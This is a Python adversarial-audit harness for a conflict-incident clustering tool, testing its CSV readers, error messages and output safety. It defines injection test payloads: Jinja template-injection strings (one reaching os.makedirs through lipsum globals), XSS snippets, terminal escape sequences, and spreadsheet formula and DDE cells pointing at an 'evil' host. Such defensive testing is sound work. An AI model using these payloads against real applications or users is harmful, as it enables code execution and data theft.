"""Adversarial audit of the installed hotspot (issue #15): measure, do not fix.

About 275 cases (4 more with ``--heavy``) try hotspot "as a new user would",
through the command line (the ``hotspot`` script in a subprocess) and the
Python API: readers, geo files, geocoding, output safety, output folders and
faults, load, network and determinism. Each case is a small function that builds its bad input in a
fresh temporary folder, runs it under a time limit and classifies the outcome
by the rules below. The harness prints the table of issue #15 (cases per
category), then one line per case (id, category, reason), and writes both, with
a reproduction (input files and commands) for every case that does not pass,
to the report file named on the command line.

Run::

    python benchmarks/adversarial_audit.py audit-report.txt           # 4-7 min on 2 cores
    python benchmarks/adversarial_audit.py audit.txt --jobs 1          # one case at a time
    python benchmarks/adversarial_audit.py audit.txt --heavy           # + 1M points, 10 MB, PNG
    python benchmarks/adversarial_audit.py audit.txt --only csv-       # cases whose id matches
    python benchmarks/adversarial_audit.py --list                      # ids and titles

Classification rules (checked in this order)
--------------------------------------------
security failure
    A payload took effect: a Jinja expression evaluated (``X{{7*7}}Y`` shown
    as ``X49Y``, the folder named by ``$HOTSPOT_PWN`` created), an HTML/JS
    payload ran in headless Chromium (``window.pwned`` set, the title changed,
    an injected element in the DOM), a file outside ``--out`` written through a
    planted symbolic or hard link, a CSV output cell that a spreadsheet runs as a
    formula (starts with ``=``, ``+``, ``-``, ``@``, tab or CR and is not a
    number), a terminal control sequence (ESC, C1 controls, a bare CR, other C0
    controls) or a bidirectional override printed to the terminal, a network
    connection attempted where none may be (import, ``analyze``).
timeout
    No answer within the case's time limit (the process group is killed), or a
    resource budget stated by the case (peak RSS) exceeded.
raw traceback
    A Python traceback on stderr of the command line; for the API, an
    exception that is not hotspot's own (``hotspot.errors``) and was not raised
    on purpose in hotspot code (e.g. ``AttributeError``, ``OverflowError``,
    ``KeyError``, pyogrio's ``DataSourceError`` escaping from a library).
vague error / clear error
    A refusal (exit code not 0, or an exception raised on purpose). It is
    clear when the message names the file, row/line, field, option or folder
    at fault (the case lists those anchors), vague otherwise. The CLI's
    catch-all line for unexpected exceptions ("error while handling FILE:
    AttributeError: ... (--debug shows the traceback)") counts as vague when
    it shows a Python exception type: it names the file but reports an
    internal failure, not the problem. A refusal of *valid* input is vague too, since no
    message can name a fault that is not there.
silent row loss
    Fewer rows out than in, with no warning and nothing in the report that says
    where they went.
silent wrong result
    The run succeeded but the result is wrong (a value changed, a placeholder
    clustered, a fake row invented, a stale file left in place, two runs of the
    same input differ) and nothing said so.
warning + handled
    The result is right (or the problem is flagged in the data) and a warning
    naming the problem was printed (``warning:`` on stderr, or a Python
    warning from the API).
handled
    The result is right and no warning was needed.

Every case is independent: it runs in a forked child (the parent has imported
hotspot once) in its own temporary folder. ``--keep`` keeps those folders.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import gzip
import hashlib
import html
import io
import json
import os
import random
import re
import select
import shlex
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import traceback
import warnings
from collections import Counter
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]

CATEGORIES = (
    "handled",
    "clear error",
    "warning + handled",
    "vague error",
    "silent wrong result",
    "silent row loss",
    "raw traceback",
    "timeout",
    "security failure",
)
PASSING = frozenset(CATEGORIES[:3])
GROUPS = (
    "readers",
    "geo files",
    "geocoding",
    "output safety",
    "output folders and faults",
    "load",
    "network",
    "determinism",
)
TRACEBACK = "Traceback (most recent call last)"
CATCHALL = "(--debug shows the traceback)"
# What must never reach a terminal: C0 controls but TAB/LF/CR, DEL, C1 controls
# (ESC included), a CR that does not end a line, bidirectional overrides.
TERMINAL_BAD = re.compile(
    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]|\r(?!\n)|[\u202a-\u202e\u2066-\u2069]"
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Jinja payloads with markers that only appear when evaluated.
J49 = "X{{7*7}}Y"  # evaluated: X49Y
JCAT = "Q{{ 'pw' ~ 'ned' }}Q"  # evaluated: QpwnedQ
JLOOP = "{% for i in range(2) %}LOOP{% endfor %}"  # evaluated: LOOPLOOP
EXEC = "{{ lipsum.__globals__.os.makedirs(lipsum.__globals__.os.environ.HOTSPOT_PWN) }}"
JINJA_PAYLOADS = (J49, JCAT, JLOOP, EXEC)
EVALUATED = ("X49Y", "QpwnedQ", "LOOPLOOP")
# HTML/JS payloads: each sets window.pwned (or the title) when it runs.
HTML_PAYLOADS = (
    "<script>window.pwned='script'</script>",
    "<img src=x onerror=\"window.pwned='img'\">",
    "</script><script>window.pwned='breakout'</script>",
    "<svg onload=\"window.pwned='svg'\"></svg>",
    '"><b id=injected>x</b>',
    "<iframe srcdoc=\"<script>parent.pwned='iframe'</script>\"></iframe>",
)
ANSI_PAYLOADS = (
    "\x1b[31mRED\x1b[0m",
    "\x1b]0;owned-title\x07",
    "\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[Hclear",
    "csi\x9b31m",
    "back\x08\x08space",
    "cr\roverwrite",
)
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil/?x","click")',
    "@SUM(1+1)",
    "+1+1",
    "-1+2",
    "=cmd|' /C calc'!A0",
)


# ====================================================================== framework
@dataclass
class Outcome:
    category: str
    reason: str


@dataclass
class Result:
    case: Case
    category: str
    reason: str
    seconds: float
    steps: list[str] = field(default_factory=list)
    inputs: list[str] = field(default_factory=list)


@dataclass
class Case:
    id: str
    group: str
    title: str
    fn: Callable[[Ctx], Outcome]
    timeout: float
    heavy: bool


CASES: list[Case] = []


def case(group: str, cid: str, title: str, *, timeout: float = 180, heavy: bool = False):
    """Register a case function."""
    assert group in GROUPS, group

    def register(fn: Callable[[Ctx], Outcome]) -> Callable[[Ctx], Outcome]:
        assert all(c.id != cid for c in CASES), cid
        CASES.append(Case(cid, group, title, fn, timeout, heavy))
        return fn

    return register


def handled(reason: str, warned: bool = False) -> Outcome:
    return Outcome("warning + handled" if warned else "handled", reason)


def out(category: str, reason: str) -> Outcome:
    assert category in CATEGORIES, category
    return Outcome(category, reason)


class HarnessError(Exception):
    """The case itself is broken (not a finding about hotspot)."""


def hotspot_command() -> list[str]:
    script = Path(sys.executable).with_name("hotspot")
    return [str(script)] if script.exists() else [sys.executable, "-m", "hotspot"]


HOTSPOT = hotspot_command()


@dataclass
class Run:
    """One finished subprocess."""

    shown: str
    rc: int | None
    stdout: str
    stderr: str
    seconds: float
    maxrss_mb: float
    timed_out: bool
    timeout: float

    @property
    def text(self) -> str:
        return self.stdout + self.stderr

    @property
    def warnings(self) -> list[str]:
        return [ln for ln in self.stderr.splitlines() if ln.startswith("warning:")]

    def warned(self, *words: str) -> bool:
        lines = self.warnings
        if not words:
            return bool(lines)
        return any(w.lower() in ln.lower() for ln in lines for w in words)

    def observed(self) -> str:
        err = " | ".join(self.stderr.strip().splitlines()[-3:])
        return f"exit {self.rc}; stderr: {err[:300]!r}"


@dataclass
class Call:
    """One API call: its value or exception, and the warnings it issued."""

    shown: str
    value: Any
    exc: BaseException | None
    tb: str
    warnings: list[str]
    seconds: float

    def warned(self, *words: str) -> bool:
        if not words:
            return bool(self.warnings)
        return any(w.lower() in m.lower() for m in self.warnings for w in words)


class Ctx:
    """A case's temporary folder, the inputs it wrote and the steps it ran."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.steps: list[str] = []
        self.inputs: list[str] = []
        self.pwn = root / "pwned-by-payload"

    # ---------------------------------------------------------------- paths and files
    def p(self, *parts: str) -> Path:
        return self.root.joinpath(*parts)

    def show(self, text: object) -> str:
        return str(text).replace(str(self.root), "$T")

    def write(
        self, name: str, data: str | bytes, *, encoding: str = "utf-8", note: str = ""
    ) -> Path:
        path = self.p(name)
        path.parent.mkdir(parents=True, exist_ok=True)
        raw = data if isinstance(data, bytes) else data.encode(encoding)
        path.write_bytes(raw)
        self.record(path, raw, note)
        return path

    def record(self, path: Path, raw: bytes | None = None, note: str = "") -> None:
        if raw is None:
            raw = path.read_bytes() if path.is_file() else b""
        head = raw[:700]
        try:
            shown = head.decode("utf-8")
        except UnicodeDecodeError:
            if note:  # a binary file (workbook, GeoPackage): what it holds is in the note
                self.inputs.append(f"{self.show(path)} [{note}] ({len(raw):,} bytes)")
                return
            shown = repr(head)
        more = f" ... ({len(raw):,} bytes in all)" if len(raw) > 700 else ""
        lines = shown.splitlines()
        if len(lines) > 12:
            shown = "\n".join([*lines[:12], f"... ({len(raw.splitlines()):,} lines)"])
            more = ""
        note = f" [{note}]" if note else ""
        self.inputs.append(
            f"{self.show(path)}{note}:\n{shown!r}{more}"
            if TERMINAL_BAD.search(shown)
            else f"{self.show(path)}{note}:\n{shown}{more}"
        )

    def note(self, text: str) -> None:
        self.steps.append(self.show(text))

    # ---------------------------------------------------------------- running
    def env(self, **extra: str) -> dict[str, str]:
        env = dict(os.environ)
        env.pop("PYTHONWARNINGS", None)
        env["HOTSPOT_PWN"] = str(self.pwn)
        env["COLUMNS"] = "200"
        env.update(extra)
        return env

    def run(
        self,
        command: list[str],
        *,
        timeout: float = 150,
        env: dict[str, str] | None = None,
        cwd: Path | None = None,
        shown: str | None = None,
        preexec: Callable[[], None] | None = None,
    ) -> Run:
        """Run a command with stdout/stderr to files; measure time and peak RSS."""
        shown = shown or self.show(shlex.join(command)).replace(shlex.join(HOTSPOT), "hotspot")
        self.steps.append(shown)
        out_path = self.root / f".run-{len(self.steps)}.out"
        err_path = self.root / f".run-{len(self.steps)}.err"
        start = time.perf_counter()
        timed_out = False
        with open(out_path, "wb") as so, open(err_path, "wb") as se:
            proc = subprocess.Popen(
                command,
                stdin=subprocess.DEVNULL,
                stdout=so,
                stderr=se,
                env=env or self.env(),
                cwd=cwd or self.root,
                start_new_session=True,
                preexec_fn=preexec,
            )
            deadline = start + timeout
            while True:
                pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
                if pid:
                    break
                if time.perf_counter() > deadline:
                    with contextlib.suppress(OSError):
                        os.killpg(proc.pid, signal.SIGKILL)
                    pid, status, usage = os.wait4(proc.pid, 0)
                    timed_out = True
                    break
                time.sleep(0.02)
            proc.returncode = os.waitstatus_to_exitcode(status)
        seconds = time.perf_counter() - start
        return Run(
            shown=shown,
            rc=None if timed_out else proc.returncode,
            stdout=out_path.read_bytes().decode("utf-8", "replace"),
            stderr=err_path.read_bytes().decode("utf-8", "replace"),
            seconds=seconds,
            maxrss_mb=usage.ru_maxrss / 1024,
            timed_out=timed_out,
            timeout=timeout,
        )

    def cli(self, *args: object, **kwargs: Any) -> Run:
        return self.run([*HOTSPOT, *map(str, args)], **kwargs)

    def py(self, code: str, *args: object, **kwargs: Any) -> Run:
        shown = self.show(f"python -c {shlex.quote(code)} " + shlex.join(map(str, args)))
        return self.run([sys.executable, "-c", code, *map(str, args)], shown=shown, **kwargs)

    def api(
        self, fn: Callable[..., Any], *args: Any, shown: str | None = None, **kwargs: Any
    ) -> Call:
        """Call the API, recording the value or exception and the warnings."""
        if shown is None:
            parts = [repr(a) if not isinstance(a, Path) else f"'{a}'" for a in args]
            parts += [f"{k}={v!r}" for k, v in kwargs.items()]
            shown = f"{fn.__module__}.{fn.__qualname__}({', '.join(parts)})"
        self.steps.append(self.show(shown)[:600])
        start = time.perf_counter()
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            try:
                value, exc, tb = fn(*args, **kwargs), None, ""
            except Exception as e:
                value, exc, tb = None, e, traceback.format_exc()
        seconds = time.perf_counter() - start
        messages = [
            str(w.message)
            for w in caught
            if not issubclass(w.category, (DeprecationWarning, ResourceWarning))
        ]
        return Call(shown, value, exc, tb, messages, seconds)


# ---------------------------------------------------------------------- judging errors
CASE_ROOT: Path | None = None  # the running case's folder (one case per forked process)


def _names_anchor(text: str, anchors: Iterable[str]) -> str | None:
    """The first anchor the message names; the case's temp folder path does not count."""
    if CASE_ROOT is not None:
        text = text.replace(str(CASE_ROOT), "$T")
    low = text.lower()
    for anchor in anchors:
        if anchor and str(anchor).lower() in low:
            return str(anchor)
    return None


def cli_error(run: Run, anchors: Iterable[str], *, valid: bool = False) -> Outcome:
    """Classify a failed command run (exit code not 0)."""
    lines = [ln for ln in run.stderr.splitlines() if ln.strip() and not ln.startswith("warning:")]
    message = " ".join(lines)[:400]
    if not message:
        return out("vague error", f"exit {run.rc} with no message")
    if CATCHALL in message and re.search(r"\b\w*(Error|Exception)\b: ", message):
        return out("vague error", f"internal error through the catch-all: {message}")
    if valid:
        return out("vague error", f"valid input refused: {message}")
    named = _names_anchor(message, anchors)
    if named:
        return out("clear error", f"exit {run.rc}: {message}")
    return out("vague error", f"exit {run.rc}, names none of {list(anchors)}: {message}")


def cli_first(run: Run, anchors: Iterable[str], *, valid: bool = False) -> Outcome | None:
    """The verdict when the run timed out, printed a traceback or failed; else None."""
    if run.timed_out:
        return out("timeout", f"no answer within {run.timeout:.0f} s: {run.shown[:200]}")
    if TRACEBACK in run.stderr or TRACEBACK in run.stdout:
        last = [ln for ln in run.stderr.strip().splitlines() if ln.strip()][-1:]
        return out("raw traceback", f"exit {run.rc}: {' '.join(last)[:300]}")
    if run.rc not in (0,):
        return cli_error(run, anchors, valid=valid)
    return None


HOTSPOT_PKG: Path | None = None


def api_error(call: Call, anchors: Iterable[str], *, valid: bool = False) -> Outcome:
    """Classify an exception from the API."""
    from hotspot.errors import HotspotError

    exc = call.exc
    assert exc is not None
    frames = traceback.extract_tb(exc.__traceback__)
    last = frames[-1] if frames else None
    where = f"{Path(last.filename).name}:{last.lineno}" if last else "?"
    in_hotspot = bool(last) and HOTSPOT_PKG is not None and str(HOTSPOT_PKG) in last.filename
    deliberate = isinstance(exc, HotspotError) or (
        in_hotspot
        and type(exc)
        in (
            ValueError,
            TypeError,
            LookupError,
            FileNotFoundError,
            IsADirectoryError,
            NotADirectoryError,
            PermissionError,
            ImportError,
        )
    )
    message = " ".join(str(exc).split())[:400]
    if not deliberate:
        return out("raw traceback", f"{type(exc).__name__} raised in {where}: {message}")
    if valid:
        return out("vague error", f"valid input refused: {type(exc).__name__}: {message}")
    if _names_anchor(message, anchors):
        return out("clear error", f"{type(exc).__name__}: {message}")
    return out("vague error", f"{type(exc).__name__} names none of {list(anchors)}: {message}")


def terminal_leak(*texts: str) -> str | None:
    for text in texts:
        found = TERMINAL_BAD.search(text.replace("\r\n", "\n"))
        if found:
            start = max(0, found.start() - 20)
            return repr(text[start : found.end() + 20])
    return None


def evaluated_in(text: str) -> str | None:
    decoded = html.unescape(
        re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), text)
    )
    for marker in EVALUATED:
        if marker in decoded:
            return marker
    return None


def formula_cells(csv_text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula."""
    bad = []
    for row in csv.reader(io.StringIO(csv_text)):
        for cell in row:
            if cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


# ====================================================================== input data
FIELDS = [
    "id",
    "date",
    "latitude",
    "longitude",
    "event_type",
    "actor1",
    "place",
    "notes",
    "fatalities",
    "source",
]
SITES = [(35.130, 44.450, "Daquq"), (34.880, 44.630, "Tuz Khurmatu"), (35.780, 43.580, "Makhmur")]


def base_rows(n: int = 30) -> list[dict[str, str]]:
    """n incidents at three places in the disputed territories (10+ each: 3 hotspots)."""
    rows = []
    for i in range(n):
        lat, lon, place = SITES[i % 3]
        k = i // 3
        rows.append(
            {
                "id": f"E{i + 1}",
                "date": f"2024-{1 + k % 12:02d}-{1 + i % 28:02d}",
                "latitude": f"{lat + 0.002 * (k % 5):.4f}",
                "longitude": f"{lon + 0.002 * (k % 4):.4f}",
                "event_type": "Explosions/Remote violence",
                "actor1": "Islamic State (Iraq)",
                "place": place,
                "notes": f"incident {i + 1}",
                "fatalities": str(i % 5),
                "source": "audit",
            }
        )
    return rows


def csv_text(
    rows: list[dict[str, str]], fields: list[str] = FIELDS, *, delimiter: str = ",", eol: str = "\n"
) -> str:
    """A correctly quoted CSV."""
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator=eol)
    writer.writerow(fields)
    for row in rows:
        writer.writerow([row.get(f, "") for f in fields])
    return buf.getvalue()


def raw_csv(rows: list[dict[str, str]], fields: list[str] = FIELDS, *, eol: str = "\n") -> str:
    """A CSV joined by hand: values go in as they are (quoting traps stay traps)."""
    lines = [",".join(fields)] + [",".join(r.get(f, "") for f in fields) for r in rows]
    return eol.join(lines) + eol


def sample_acled(n: int) -> tuple[list[str], list[list[str]]]:
    """The header and first n rows of the bundled ACLED-layout sample."""
    from hotspot.sample import sample_path

    with open(sample_path(), encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1 : n + 1]


def acled_text(header: list[str], rows: list[list[str]]) -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


def analyze(
    ctx: Ctx,
    src: object,
    *extra: object,
    out_name: str = "out",
    out_path: Path | None = None,
    png: bool = False,
    timeout: float = 150,
    env: dict[str, str] | None = None,
) -> tuple[Run, Path]:
    """``hotspot analyze SRC --out T/out --no-png --min-samples 5``."""
    folder = out_path if out_path is not None else ctx.p(out_name)
    args: list[object] = ["analyze"]
    if src is not None:
        args.append(src)
    args += ["--out", folder, "--min-samples", "5"]
    if not png:
        args.append("--no-png")
    return ctx.cli(*args, *extra, timeout=timeout, env=env), folder


def features(path: Path) -> list[dict]:
    return json.loads(path.read_text(encoding="utf-8"))["features"]


def incidents_out(folder: Path) -> list[dict]:
    return [
        f["properties"] | {"_geometry": f["geometry"]}
        for f in features(folder / "incidents.geojson")
    ]


def summary_of(folder: Path) -> str:
    return (folder / "summary.txt").read_text(encoding="utf-8")


def rows_check(
    run: Run,
    folder: Path,
    expected_ids: list[str],
    anchors: Iterable[str],
    *,
    warn_words: Iterable[str] = (),
    valid: bool = True,
    value_check: Callable[[dict[str, dict]], str | None] | None = None,
) -> Outcome:
    """The common verdict of a reader case run through ``hotspot analyze``.

    Every input id must come out once (else row loss, or invented rows), and
    ``value_check`` (returning a problem or None) must pass.
    """
    first = cli_first(run, anchors, valid=valid)
    if first:
        return first
    rows = incidents_out(folder)
    got = [str(r.get("id")) for r in rows]
    words = tuple(warn_words)
    warned = run.warned(*words) if words else run.warned()
    missing = [i for i in expected_ids if not any(g == i or g.startswith(i + "#") for g in got)]
    extra = len(rows) - len(expected_ids)
    by_id = {str(r.get("id")): r for r in rows}
    if missing:
        what = f"{len(expected_ids)} rows in, {len(rows)} out; missing {missing[:8]}"
        if warned:
            return handled(f"{what}; warned: {run.warnings[0][:160]}", True)
        return out("silent row loss", what)
    if extra > 0:
        what = f"{len(expected_ids)} rows in, {len(rows)} out ({extra} invented)"
        return handled(f"{what}; warned", True) if warned else out("silent wrong result", what)
    problem = value_check(by_id) if value_check else None
    if problem:
        if warned:
            return handled(f"{problem}; warned: {run.warnings[0][:160]}", True)
        return out("silent wrong result", problem)
    if warned:
        return handled(f"all {len(rows)} rows kept; {run.warnings[0][:200]}", True)
    return handled(f"all {len(rows)} rows kept, values intact")


def read_check(
    ctx: Ctx,
    source: object,
    n_in: int,
    anchors: Iterable[str],
    *,
    valid: bool = False,
    check: Callable[[Any], str | None] | None = None,
    warn_words: Iterable[str] = (),
    need_warning: bool = False,
    **kwargs: Any,
) -> Outcome:
    """The verdict of a reader case run through ``read_incidents`` (the API)."""
    from hotspot.incidents import read_incidents

    shown = None
    if isinstance(source, Path):
        opts = "".join(f", {k}={v!r}" for k, v in kwargs.items())
        shown = f"hotspot.read_incidents('{source}'{opts})"
    call = ctx.api(read_incidents, source, shown=shown, **kwargs)
    if call.exc is not None:
        return api_error(call, anchors, valid=valid)
    frame = call.value
    words = tuple(warn_words)
    warned = call.warned(*words) if words else bool(call.warnings)
    first_warning = call.warnings[0][:200] if call.warnings else ""
    if len(frame) < n_in:
        what = f"{n_in} rows in, {len(frame)} out"
        return (
            handled(f"{what}; warned: {first_warning}", True)
            if warned
            else out("silent row loss", what)
        )
    if len(frame) > n_in:
        what = f"{n_in} rows in, {len(frame)} out"
        return (
            handled(f"{what}; warned: {first_warning}", True)
            if warned
            else out("silent wrong result", what)
        )
    problem = check(frame) if check else None
    if problem:
        return (
            handled(f"{problem}; warned: {first_warning}", True)
            if warned
            else out("silent wrong result", problem)
        )
    if need_warning and not warned:
        flagged = frame["issues"].astype(str).str.len().gt(0).sum() if "issues" in frame else 0
        if not flagged:
            return out("silent wrong result", "problem neither warned about nor flagged in issues")
        return handled(f"flagged in the issues column of {flagged} row(s), no warning")
    if warned:
        return handled(f"{len(frame)} rows; {first_warning}", True)
    return handled(f"{len(frame)} rows, as expected")


# ====================================================================== readers
def _quote_case(
    cid: str,
    title: str,
    build: Callable[[list[dict[str, str]]], str],
    n: int,
    *,
    value_check: Callable[[dict[str, dict]], str | None] | None = None,
    valid: bool = False,
    fatal_ok: bool = True,
) -> None:
    """A CSV quoting trap run through `hotspot analyze`: every row must come out, values intact."""

    @case("readers", cid, title)
    def _(ctx: Ctx) -> Outcome:
        rows = base_rows(n)
        path = ctx.write(f"{cid}.csv", build(rows))
        run, folder = analyze(ctx, path)
        ids = [r["id"] for r in rows]
        anchors = [path.name, "line", "quote"] if fatal_ok else [path.name]
        return rows_check(
            run,
            folder,
            ids,
            anchors,
            warn_words=("quote", "line"),
            valid=valid,
            value_check=value_check,
        )


def _fatalities_intact(n: int) -> Callable[[dict[str, dict]], str | None]:
    def check(by_id: dict[str, dict]) -> str | None:
        wrong = []
        for i in range(n):
            row = by_id.get(f"E{i + 1}")
            if row is not None and row.get("fatalities") not in (i % 5, None):
                wrong.append(f"E{i + 1} fatalities {row.get('fatalities')} (was {i % 5})")
        return "; ".join(wrong[:4]) or None

    return check


def _missing(value: object) -> bool:
    import pandas as pd

    return value is None or bool(pd.isna(value))


def _with(rows: list[dict[str, str]], index: int, **values: str) -> list[dict[str, str]]:
    rows[index] = {**rows[index], **values}
    return rows


_quote_case(
    "csv-two-open-quotes",
    "two unescaped opening quotes in notes (E5, E10) of 20 rows (issue #15)",
    lambda rows: raw_csv(_with(_with(rows, 4, notes='"sniper fire near'), 9, notes='"ambush')),
    20,
    value_check=_fatalities_intact(20),
)
_quote_case(
    "csv-one-stray-quote-120",
    "one stray opening quote in row 11 of 120 (issue #15)",
    lambda rows: raw_csv(_with(rows, 10, notes='"unbalanced note')),
    120,
    value_check=_fatalities_intact(120),
)
_quote_case(
    "csv-mid-field-quote",
    'a quote inside an unquoted field: he said "no',
    lambda rows: raw_csv(_with(rows, 3, notes='he said "no')),
    20,
    value_check=lambda by: (
        None if by["E4"]["notes"] == 'he said "no' else f"E4 notes {by['E4']['notes']!r}"
    ),
)
_quote_case(
    "csv-trailing-quote",
    'a field ending in a stray quote: no"',
    lambda rows: raw_csv(_with(rows, 3, notes='no"')),
    20,
    value_check=lambda by: (
        None if by["E4"]["notes"] == 'no"' else f"E4 notes {by['E4']['notes']!r}"
    ),
)
_quote_case(
    "csv-quoted-multiline",
    "a correctly quoted notes field over three lines",
    lambda rows: csv_text(_with(rows, 2, notes="line one\nline two, with comma\nline three")),
    20,
    value_check=lambda by: (
        None
        if by["E3"]["notes"] == "line one\nline two, with comma\nline three"
        else f"E3 notes {by['E3']['notes']!r}"
    ),
    valid=True,
)
_quote_case(
    "csv-doubled-quotes",
    'correctly doubled quotes and commas inside a quoted field: "a ""b"", c"',
    lambda rows: csv_text(_with(rows, 2, notes='a "b", c')),
    20,
    value_check=lambda by: (
        None if by["E3"]["notes"] == 'a "b", c' else f"E3 notes {by['E3']['notes']!r}"
    ),
    valid=True,
)
_quote_case(
    "csv-backslash-quotes",
    r'backslash-escaped quotes (MySQL/PHP exports): "he said \"go\", then"',
    lambda rows: raw_csv(_with(rows, 2, notes='"he said \\"go\\", then left"')),
    20,
    value_check=_fatalities_intact(20),
)
_quote_case(
    "csv-unterminated-last",
    "an opening quote never closed in the last row",
    lambda rows: raw_csv(_with(rows, 19, notes='"never closed')),
    20,
    value_check=_fatalities_intact(20),
)
_quote_case(
    "csv-quoted-fake-row",
    "a correctly quoted note whose second line looks like a whole row",
    lambda rows: csv_text(
        _with(rows, 2, notes="see below\nE99,2024-05-05,35.5,44.5,Battles,X,Kirkuk,fake,99,audit")
    ),
    20,
    value_check=lambda by: (
        None
        if by["E3"]["notes"].startswith("see below\nE99")
        else f"E3 notes {by['E3']['notes']!r}"
    ),
    valid=True,
)
_quote_case(
    "csv-quote-crlf",
    "a stray opening quote in a CRLF file",
    lambda rows: raw_csv(_with(rows, 5, notes='"stray'), eol="\r\n"),
    20,
    value_check=_fatalities_intact(20),
)
_quote_case(
    "csv-quote-no-final-newline",
    "a stray quote in the last line, no final newline",
    lambda rows: raw_csv(_with(rows, 19, notes='x "y'))[:-1],
    20,
    value_check=_fatalities_intact(20),
)
_quote_case(
    "csv-quote-in-id",
    "an id cell that opens a quote",
    lambda rows: raw_csv(_with(rows, 6, id='"E7')),
    20,
)
_quote_case(
    "csv-quoted-numbers",
    "every cell quoted, numbers too (some exporters)",
    lambda rows: "".join(
        ",".join(f'"{c}"' for c in line.split(",")) + "\n" for line in raw_csv(rows).splitlines()
    ),
    20,
    value_check=_fatalities_intact(20),
    valid=True,
)


@case("readers", "csv-quote-in-header", "a stray quote in the header row")
def _(ctx: Ctx) -> Outcome:
    text = raw_csv(base_rows(12)).replace("notes", '"notes', 1)
    path = ctx.write("hdr.csv", text)
    run, folder = analyze(ctx, path)
    return rows_check(
        run, folder, [f"E{i + 1}" for i in range(12)], [path.name, "line 1", "header"], valid=False
    )


@case("readers", "csv-semicolon", "a semicolon-separated export (European Excel)")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(20)
    path = ctx.write("eu.csv", csv_text(rows, delimiter=";"))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "delimiter", "semicolon", "date;latitude", "columns"])
    if first:
        return first
    return rows_check(run, folder, [r["id"] for r in rows], [path.name])


@case("readers", "csv-tab-in-csv", "a tab-separated file named .csv")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(20)
    path = ctx.write("tabs.csv", csv_text(rows, delimiter="\t"))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "tab", "delimiter", "columns"])
    return first or rows_check(run, folder, [r["id"] for r in rows], [path.name])


@case("readers", "tsv-file", "a .tsv file")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(20)
    path = ctx.write("events.tsv", csv_text(rows, delimiter="\t"))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "tsv", "tab", "format", "suffix"])
    return first or rows_check(run, folder, [r["id"] for r in rows], [path.name])


@case("readers", "csv-extra-field", "one row with an extra field")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(20)
    text = raw_csv(rows).replace("incident 5,", "incident 5,extra,", 1)
    return read_check(
        ctx,
        ctx.write("extra.csv", text),
        20,
        ["extra.csv", "line 6"],
        warn_words=("line 6", "field"),
        need_warning=True,
    )


@case("readers", "csv-missing-field", "one row with a field missing")
def _(ctx: Ctx) -> Outcome:
    text = raw_csv(base_rows(20)).replace(",incident 5,", ",", 1)
    return read_check(
        ctx,
        ctx.write("short.csv", text),
        20,
        ["short.csv", "line 6"],
        warn_words=("line 6", "field"),
        need_warning=True,
    )


@case(
    "readers", "csv-trailing-comma-all", "every data row ends with a comma (an empty extra field)"
)
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    lines = raw_csv(rows).splitlines()
    path = ctx.write("trail.csv", "\n".join([lines[0]] + [ln + "," for ln in lines[1:]]) + "\n")
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "field"], valid=True)
    if first:
        return first

    def located(by_id: dict[str, dict]) -> str | None:
        lost = [i for i, r in by_id.items() if r["_geometry"] is None]
        return f"{len(lost)} of {len(by_id)} rows lost their location" if lost else None

    return rows_check(run, folder, [r["id"] for r in rows], [path.name], value_check=located)


# ---------------------------------------------------------------------- numbers
def _fatalities_case(
    cid: str, value: str, expect: Callable[[Any], bool], note: str, *, via_cli: bool = False
) -> None:
    @case("readers", cid, f"fatalities {value!r} ({note})")
    def _(ctx: Ctx) -> Outcome:
        header, rows = sample_acled(12)
        rows[3][header.index("fatalities")] = value
        path = ctx.write(f"{cid}.csv", acled_text(header, rows))
        if via_cli:
            run, folder = analyze(ctx, path)
            first = cli_first(run, [path.name, "line 5", "fatalities"])
            if first:
                return first
            got = {r["id"]: r for r in incidents_out(folder)}
            value_out = got.get(rows[3][0], {}).get("fatalities")
            ok = expect(value_out)
            if len(got) != 12:
                return out("silent row loss", f"12 rows in, {len(got)} out")
            if not ok:
                return out("silent wrong result", f"fatalities read as {value_out!r}")
            warned = run.warned("fatalities")
            return handled(f"fatalities -> {value_out!r}", warned)

        def check(frame: Any) -> str | None:
            got = frame["fatalities"].iloc[3]
            got = None if _missing(got) else got
            return None if expect(got) else f"fatalities read as {got!r}"

        return read_check(
            ctx,
            path,
            12,
            [path.name, "line 5", "fatalities"],
            check=check,
            warn_words=("fatalities",),
        )


_fatalities_case("fatal-1e20", "1e20", lambda v: v is None, "beyond int64, issue #15", via_cli=True)
_fatalities_case("fatal-2pow63", "9223372036854775808", lambda v: v is None, "2^63", via_cli=True)
_fatalities_case("fatal-inf", "inf", lambda v: v is None, "infinite")
_fatalities_case("fatal-negative", "-5", lambda v: v is None, "negative")
_fatalities_case("fatal-thousands", "1,234", lambda v: v in (None, 1234), "thousands separator")
_fatalities_case("fatal-fraction", "3.7", lambda v: v is None, "fractional")
_fatalities_case("fatal-text", "about 10", lambda v: v in (None, 10), "free text")
